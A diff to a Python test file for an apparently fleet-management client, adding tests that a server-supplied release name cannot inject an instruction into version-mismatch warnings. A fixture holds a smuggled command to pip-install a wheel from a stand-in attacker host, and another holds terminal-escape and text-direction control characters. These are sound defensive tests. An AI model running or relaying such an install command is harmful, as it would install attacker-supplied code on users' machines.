@@ -21,7 +21,6 @@ from polyclinic.client.check.findings import CheckFinding, CheckResult, FindingS
 from polyclinic.client.check.machine import GpuMeasurements
 from polyclinic.client.connection.exit_codes import ClientExitCode
 from polyclinic.common import __version__
-from polyclinic.common.system.plain_text import is_plain_text
 from polyclinic.common.wire.fleet_protocol import HELLO_METHOD, HELLO_SERVICE
 from polyclinic.common.wire.versions import WIRE_VERSION
 from polyclinic.server.coordinator.authority import issue_server_certificate
@@ -132,9 +131,10 @@ def test_another_wire_version(hospital: Hospital) -> None:
     ("wire", "newest", "first"),
     [
         (WIRE_VERSION - 1, 0, "the coordinator has to update: it runs release 9.9.9"),
+        (WIRE_VERSION - 1, WIRE_VERSION, "the coordinator has to update: it runs release 9.9.9"),
         (WIRE_VERSION, WIRE_VERSION + 1, "update this site: the coordinator runs release 9.9.9"),
     ],
-    ids=["older", "newer"],
+    ids=["older", "asks for an older one", "newer"],
 )
 def test_a_wire_version_apart_is_a_warning_that_says_who_has_to_update(
     hospital: Hospital, wire: int, newest: int, first: str
@@ -147,17 +147,43 @@ def test_a_wire_version_apart_is_a_warning_that_says_who_has_to_update(
     assert "this site's key is admitted" in connection.passed
 
 
-@pytest.mark.parametrize("release", ["9.9.9", f"\x1b[2J\u202e{'9' * 5000}"], ids=["another", "of any text"])
+EVIL = "9: pip install https://evil.example/polyclinic-9.whl"
+
+
+@pytest.mark.parametrize(
+    ("wire", "remedy"),
+    [
+        (WIRE_VERSION + 2, "Install the coordinator's release (ask which one that is) here."),
+        (WIRE_VERSION - 2, "or install the coordinator's release (ask which one that is) here."),
+    ],
+)
+def test_the_name_of_a_release_is_no_room_for_an_instruction(hospital: Hospital, wire: int, remedy: str) -> None:
+    finding = worst(answered(hospital, release=EVIL, wire=wire), ClientExitCode.VERSION)
+    assert finding.remedy.endswith(remedy)
+    assert "evil" not in finding.problem + finding.remedy
+
+
+def test_a_newer_release_without_a_name_is_a_warning_without_its_text(hospital: Hospital) -> None:
+    connection = answered(hospital, release=EVIL, wire=WIRE_VERSION, newest=2**31 - 1).areas[0]
+    (finding,) = [finding for finding in connection.findings if finding.exit_code is ClientExitCode.VERSION]
+    assert f"release unknown (wire version {WIRE_VERSION + 1})" in finding.problem
+    assert finding.remedy.startswith("Install the coordinator's release (ask which one that is) here.")
+    assert "evil" not in finding.problem + finding.remedy
+
+
+@pytest.mark.parametrize(
+    ("release", "shown"),
+    [("9.9.9", "9.9.9"), (f"\x1b[2J\u202e{'9' * 5000}", "unknown"), (EVIL, "unknown")],
+    ids=["another", "of any text", "an instruction"],
+)
 def test_another_release_of_the_same_wire_version_is_no_fault_and_both_are_named(
-    release: str, hospital: Hospital
+    release: str, shown: str, hospital: Hospital
 ) -> None:
     connection = answered(hospital, release=release).areas[0]
     assert not [finding for finding in connection.findings if finding.severity]
     (line,) = [passed for passed in connection.passed if "release" in passed]
-    assert "9.9.9" in line or "99999" in line
-    assert __version__ in line
-    assert is_plain_text(line + str(connection.facts["release"]))
-    assert len(line) < 200
+    assert f"runs release {shown}, this site {__version__}" in line
+    assert connection.facts["release"] == shown
 
 
 REFUSED_CALLS = {
